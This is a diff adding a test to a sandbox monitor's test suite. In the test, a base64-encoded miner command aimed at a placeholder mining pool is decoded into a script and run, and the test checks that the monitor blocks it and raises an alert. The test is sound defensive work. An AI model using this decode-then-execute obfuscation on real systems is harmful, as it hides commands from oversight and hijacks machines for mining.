@@ -207,3 +207,18 @@ def test_bwrap_download_then_run() -> None:
     )
     assert "exec-download-run" in got
     assert "pwned" not in results[-1].stdout
+
+
+def test_bwrap_decoded_script_is_refused_before_it_runs() -> None:
+    """A miner's command hidden in base64, decoded into a file in one call and run by sh
+    in the next: the second script is refused as a whole before anything of it runs."""
+    _need_bwrap()
+    with corral.Sandbox(monitor=True, backend="bwrap") as sb:
+        sb.files.write("worker", "#!/bin/sh\necho hashing\n")
+        sb.run(
+            "chmod +x worker; "
+            "echo Li93b3JrZXIgLW8gc3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMw== | base64 -d > p.sh"
+        )
+        r = sb.run("sh p.sh; echo rc=$?")
+        assert r.exit_code == 126 and "hashing" not in r.stdout and "rc=" not in r.stdout
+        assert "exec-decoded-script-run" in {a.rule for a in sb.alerts}
